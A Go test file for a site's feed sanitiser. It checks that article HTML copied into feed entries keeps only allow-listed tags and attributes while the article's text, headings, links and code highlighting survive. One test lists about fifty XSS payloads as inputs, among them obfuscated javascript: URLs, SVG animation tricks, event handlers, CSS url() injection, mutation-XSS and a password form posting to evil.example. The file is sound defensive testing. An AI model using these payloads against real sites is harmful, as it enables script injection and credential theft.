package discovery_test

import (
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/portfolio-site/portfolio/services/gateway/internal/discovery"
)

// feedAllows is what an entry's HTML may hold after ArticleHTML: each element and its
// attributes (docs/decisions/0052-feed-sanitiser-allow-list.md).
var feedAllows = map[string][]string{
	"p": nil, "br": nil, "hr": nil, "div": nil, "main": nil, "article": nil, "section": nil, "header": nil,
	"footer": nil, "nav": nil, "aside": nil, "figure": nil, "figcaption": nil, "blockquote": {"cite"},
	"strong": nil, "b": nil, "em": nil, "i": nil, "u": nil, "s": nil, "del": nil, "ins": nil, "sub": nil,
	"sup": nil, "small": nil, "mark": nil, "abbr": nil, "cite": nil, "q": {"cite"}, "kbd": nil, "samp": nil,
	"var": nil, "details": nil, "summary": nil, "ul": nil, "ol": {"start"}, "li": nil, "dl": nil, "dt": nil,
	"dd": nil, "time": {"datetime"}, "h1": {"id"}, "h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "h5": {"id"},
	"h6": {"id"}, "pre": {"class", "style"}, "code": {"class"}, "span": {"class", "style"}, "table": nil,
	"caption": nil, "thead": nil, "tbody": nil, "tfoot": nil, "tr": nil, "th": {"colspan", "rowspan", "scope"},
	"td": {"colspan", "rowspan"}, "colgroup": nil, "col": nil, "a": {"href"},
	"img": {"src", "alt", "width", "height", "srcset"},
}

// checkAllowed parses an entry's HTML, out, and fails t for every element or
// attribute that feedAllows does not list, every URL that is not absolute http(s) or
// mailto, and every style but Shiki's colours.
func checkAllowed(t *testing.T, out string) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		t.Fatal(err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.CommentNode:
			t.Errorf("a comment: %q", n.Data)
		case html.ElementNode:
			allowed, ok := feedAllows[n.Data]
			if !ok || n.Namespace != "" {
				t.Errorf("element <%s> (namespace %q)", n.Data, n.Namespace)
			}
			for _, a := range n.Attr {
				if !slices.Contains(allowed, a.Key) || a.Namespace != "" {
					t.Errorf("attribute %s=%q on <%s>", a.Key, a.Val, n.Data)
				}
				switch a.Key {
				case "href", "src", "cite", "srcset":
					for c := range strings.SplitSeq(a.Val, ",") {
						u, err := url.Parse(strings.Fields(c + " x")[0])
						if err != nil || !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme) || u.Scheme != "mailto" && u.Host == "" {
							t.Errorf("URL %s=%q on <%s>: not absolute http(s) or mailto", a.Key, a.Val, n.Data)
						}
					}
				case "style":
					for d := range strings.SplitSeq(a.Val, ";") {
						if d = strings.TrimSpace(d); d != "" && !strings.HasPrefix(d, "--shiki-") || strings.ContainsAny(d, "()\\") {
							t.Errorf("style %q on <%s>", a.Val, n.Data)
						}
					}
				}
			}
		}
		for c := range n.ChildNodes() {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
}

// Hostile HTML in an article never reaches a feed: only what feedAllows lists comes
// through, whatever the casing, entities or nesting; the text around it stays.
func TestArticleHTMLKeepsOnlyWhatIsAllowed(t *testing.T) {
	base, _ := url.Parse(publicURL + "/blog/terraform-guide")
	for _, tc := range []struct{ name, in string }{
		{"formaction on a button", `<form><button formaction="javascript:alert(1)">Go</button></form>`},
		{"formaction on an input", `<input type="submit" formaction="javascript:alert(1)" value="Go">`},
		{"formaction outside a form", `<button form="f" formaction="javascript:alert(1)">Go</button>`},
		{"svg set", `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x="20" y="20">Go</text></a></svg>`},
		{"svg animate", `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>Go</text></a></svg>`},
		{"svg animate on xlink:href", `<svg><a xlink:href="#x"><animate attributeName="xlink:href" values="javascript:alert(1)" begin="0s"/></a></svg>`},
		{"svg onload", `<svg onload="alert(1)"><circle r="1"/></svg>`},
		{"math", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`},
		{"javascript href", `<a href="javascript:alert(1)">Go</a>`},
		{"javascript href, mixed case", `<a href="JaVaScRiPt:alert(1)">Go</a>`},
		{"javascript href, leading space", `<a href="  javascript:alert(1)">Go</a>`},
		{"javascript href, tab inside", "<a href=\"java\tscript:alert(1)\">Go</a>"},
		{"javascript href, entity tab", `<a href="jav&#x09;ascript:alert(1)">Go</a>`},
		{"javascript href, decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Go</a>`},
		{"javascript href, hex entities", `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">Go</a>`},
		{"javascript href, &colon;", `<a href="javascript&colon;alert(1)">Go</a>`},
		{"vbscript href", `<a href="vbscript:msgbox(1)">Go</a>`},
		{"data href", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Go</a>`},
		{"data href, upper case", `<a href="DATA:text/html,<script>alert(1)</script>">Go</a>`},
		{"data img", `<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">`},
		{"javascript img srcset", `<img src="/a.png" srcset="javascript:alert(1) 1x" alt="x">`},
		{"javascript blockquote cite", `<blockquote cite="javascript:alert(1)">Go</blockquote>`},
		{"onerror", `<img src="/a.png" onerror="alert(1)" alt="x">`},
		{"ONCLICK", `<p ONCLICK="alert(1)">Go</p>`},
		{"ontoggle", `<details open ontoggle="alert(1)"><summary>Go</summary></details>`},
		{"onfocus autofocus", `<h2 id="x" tabindex="0" autofocus onfocus="alert(1)">Go</h2>`},
		{"style expression", `<p style="width: expression(alert(1))">Go</p>`},
		{"style url(javascript:)", `<span style="background: url(javascript:alert(1))">Go</span>`},
		{"shiki variable with url()", `<span style="--shiki-light: url(javascript:alert(1))">Go</span>`},
		{"shiki variable with an escape", `<span style="--shiki-light: \75 rl(javascript:alert(1))">Go</span>`},
		{"style element", `<style>body{background:url(javascript:alert(1))}</style><p>Go</p>`},
		{"script", `<script>alert(1)</script><p>Go</p>`},
		{"script, upper case", `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT><p>Go</p>`},
		{"iframe", `<iframe src="https://evil.example/"></iframe><p>Go</p>`},
		{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe><p>Go</p>`},
		{"object", `<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object><p>Go</p>`},
		{"embed", `<embed src="https://evil.example/x.swf"><p>Go</p>`},
		{"form", `<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>`},
		{"base", `<base href="https://evil.example/"><a href="/x">Go</a>`},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>Go</p>`},
		{"link", `<link rel="stylesheet" href="https://evil.example/x.css"><p>Go</p>`},
		{"template", `<template><img src=x onerror=alert(1)></template><p>Go</p>`},
		{"noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Go</p>`},
		{"a comment", `<!--[if IE]><script>alert(1)</script><![endif]--><p>Go</p>`},
		{"target and rel", `<a href="https://example.com/" target="_blank" rel="opener">Go</a>`},
		{"id on a paragraph", `<p id="__proto__" name="x">Go</p>`},
		{"a heading id that is no anchor", `<h2 id="a b;c">Go</h2>`},
		{"class outside code", `<p class="fixed inset-0 z-50">Go</p>`},
		{"data attribute", `<div data-article="x">Go</div>`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, _ := discovery.ArticleHTML([]byte(`<div data-article-body="">`+tc.in+"</div>"), base)
			checkAllowed(t, got)
			for _, bad := range []string{"javascript", "vbscript", "alert(", "evil.example"} {
				if strings.Contains(strings.ToLower(got), bad) {
					t.Errorf("%q is in %s", bad, got)
				}
			}
			// An SVG's text is no article's.
			if strings.Contains(tc.in, ">Go<") && !strings.Contains(tc.in, "<svg") && !strings.Contains(got, "Go") {
				t.Errorf("the text around is lost: %s", got)
			}
		})
	}
}

// features are what a reader must find of an article in its feed entry: its text, its
// headings with their anchors, its links, and its code blocks with their highlighting.
type features struct {
	text     string
	headings []string // "h2#id text"
	links    []string // "href text"
	code     []string // each <pre>'s text
	colours  int      // the highlighted spans in code blocks
}

// featuresOf reads features from the HTML of an article (what a page marks
// data-article-body, or all of it), resolving its links against base. Icons (SVG) and
// the headings' '#' links (a.heading-anchor) have no text that counts.
func featuresOf(t *testing.T, page string, base *url.URL) features {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(page), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		t.Fatal(err)
	}
	var f features
	var text func(n *html.Node) string
	text = func(n *html.Node) string {
		if n.Type == html.TextNode {
			return n.Data
		}
		if n.Type != html.ElementNode && n.Type != html.DocumentNode || n.DataAtom == atom.Svg || n.DataAtom == atom.Script || isHeadingAnchor(n) {
			return ""
		}
		var b strings.Builder
		for c := range n.ChildNodes() {
			b.WriteString(text(c))
		}
		return b.String()
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if isHeadingAnchor(n) {
			return
		}
		switch n.DataAtom {
		case atom.H1, atom.H2, atom.H3, atom.H4, atom.H5, atom.H6:
			id := ""
			for _, a := range n.Attr {
				if a.Key == "id" {
					id = a.Val
				}
			}
			f.headings = append(f.headings, n.Data+"#"+id+" "+text(n))
		case atom.A:
			for _, a := range n.Attr {
				if a.Key == "href" {
					u, err := base.Parse(a.Val)
					if err != nil {
						t.Fatal(err)
					}
					f.links = append(f.links, u.String()+" "+text(n))
				}
			}
		case atom.Pre:
			f.code = append(f.code, text(n))
			for s := range n.Descendants() {
				if s.DataAtom == atom.Span && slices.ContainsFunc(s.Attr, func(a html.Attribute) bool {
					return a.Key == "style" && strings.Contains(a.Val, "--shiki-light")
				}) {
					f.colours++
				}
			}
		}
		for c := range n.ChildNodes() {
			walk(c)
		}
	}
	root := &html.Node{Type: html.DocumentNode}
	for _, n := range nodes {
		root.AppendChild(n)
	}
	for n := range root.Descendants() {
		if slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == discovery.BodyAttr }) {
			root = n
			break
		}
	}
	walk(root)
	f.text = strings.Join(strings.Fields(text(root)), " ")
	return f
}

func isHeadingAnchor(n *html.Node) bool {
	return n.DataAtom == atom.A && slices.ContainsFunc(n.Attr, func(a html.Attribute) bool {
		return a.Key == "class" && slices.Contains(strings.Fields(a.Val), "heading-anchor")
	})
}

// eachShippedArticle runs check on each page of testdata/articles (the blog's and the
// newsletter's prerendered pages as built), base its URL (blog-terraform-guide.html:
// /blog/terraform-guide).
func eachShippedArticle(t *testing.T, check func(t *testing.T, page []byte, base *url.URL)) {
	pages, err := filepath.Glob("testdata/articles/*.html")
	if err != nil || len(pages) < 4 {
		t.Fatalf("too few articles in testdata/articles: %v", err)
	}
	for _, p := range pages {
		t.Run(filepath.Base(p), func(t *testing.T) {
			page, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			base, _ := url.Parse(publicURL + "/" + strings.ReplaceAll(strings.TrimSuffix(filepath.Base(p), ".html"), "-", "/"))
			check(t, page, base)
		})
	}
}

// A feed entry is the article's text alone (decision 0056): none of the page around
// it (the way back, a second title, the category, date, read time and tags, the tables
// of contents, the links to other articles) and no '#' after a heading.
func TestArticleHTMLCarriesTheTextAlone(t *testing.T) {
	eachShippedArticle(t, func(t *testing.T, page []byte, base *url.URL) {
		got, ok := discovery.ArticleHTML(page, base)
		if !ok {
			t.Fatal("no text")
		}
		for _, chrome := range []string{
			"Back to Blog", "Back to Newsletter", "On this page", "Previous:", "Next:",
			"min read", "Link to this section", ">#<", "<h1", `aria-label="Tags"`, "heading-anchor",
		} {
			if strings.Contains(got, chrome) {
				t.Errorf("the entry has %q", chrome)
			}
		}
		// The page's title is its <h1>, which the entry leaves to the feed's own title.
		title := regexp.MustCompile(`<h1[^>]*>([^<]+)</h1>`).FindSubmatch(page)
		if title == nil {
			t.Fatal("the page has no <h1>")
		}
		if strings.Contains(got, html.EscapeString(string(title[1]))) {
			t.Errorf("the entry repeats the title %q", title[1])
		}
		if !strings.HasPrefix(got, "<p>") {
			t.Errorf("the entry starts %.80q, not with the text's first paragraph", got)
		}
	})
}

// The shipped articles (testdata/articles: the blog's and the newsletter's prerendered
// pages as built) lose nothing in their feed entries: the same text, headings with
// their ids, links and code blocks, every highlighted token still coloured; and
// nothing but what feedAllows lists is in them.
func TestArticleHTMLKeepsTheArticles(t *testing.T) {
	eachShippedArticle(t, func(t *testing.T, page []byte, base *url.URL) {
		got, ok := discovery.ArticleHTML(page, base)
		if !ok {
			t.Fatal("no text")
		}
		checkAllowed(t, got)
		want, have := featuresOf(t, string(page), base), featuresOf(t, got, base)
		if have.text != want.text {
			t.Errorf("text:\n%s\nwant\n%s", have.text, want.text)
		}
		for _, c := range []struct {
			what       string
			have, want []string
		}{{"headings", have.headings, want.headings}, {"links", have.links, want.links}, {"code blocks", have.code, want.code}} {
			if !slices.Equal(c.have, c.want) {
				t.Errorf("%s:\n%s\nwant\n%s", c.what, strings.Join(c.have, "\n"), strings.Join(c.want, "\n"))
			}
		}
		if have.colours != want.colours || len(want.headings) < 1 {
			t.Errorf("%d highlighted tokens, want %d; %d headings", have.colours, want.colours, len(want.headings))
		}
	})
}
